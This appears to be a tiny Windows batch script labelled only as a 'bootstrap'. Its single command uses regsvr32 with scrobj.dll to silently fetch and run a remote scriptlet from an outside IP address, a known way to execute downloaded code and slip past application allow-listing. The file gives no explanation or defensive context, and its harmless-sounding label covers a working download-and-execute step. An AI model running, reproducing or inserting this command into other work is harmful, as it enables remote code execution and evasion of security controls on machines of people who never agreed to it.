REM bootstrap 7214 v1
regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll
